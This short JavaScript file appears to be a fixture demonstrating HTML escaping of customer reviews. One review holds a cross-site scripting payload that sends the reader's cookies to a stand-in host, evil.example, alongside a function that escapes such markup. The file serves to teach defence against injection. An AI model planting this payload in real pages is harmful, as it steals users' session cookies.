/** What customers wrote. Mallory's is no praise: a script that sends the reader's cookies away. */
export const reviews = [
  { product: 'mug', by: 'lee', text: 'Keeps tea warm.' },
  {
    product: 'mug',
    by: 'mallory',
    text: '<script>new Image().src = "https://evil.example/collect?" + encodeURIComponent(document.cookie)</script>',
  },
]

const entities = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' }

/** A review whose text is nothing but text. */
export const escaped = (review) => ({
  ...review,
  text: review.text.replace(/[&<>"']/g, (sign) => entities[sign]),
})
